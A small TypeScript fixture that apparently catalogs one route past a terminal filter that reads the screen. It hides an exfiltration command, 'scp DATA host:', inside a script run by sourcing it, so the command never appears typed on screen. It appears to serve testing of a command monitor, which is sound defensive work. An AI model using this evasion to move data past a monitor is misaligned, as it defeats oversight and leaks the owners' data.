import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'in a script that is sourced',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['. ./s.sh\r'],
  files: { 's.sh': 'scp DATA host:\n' },
};
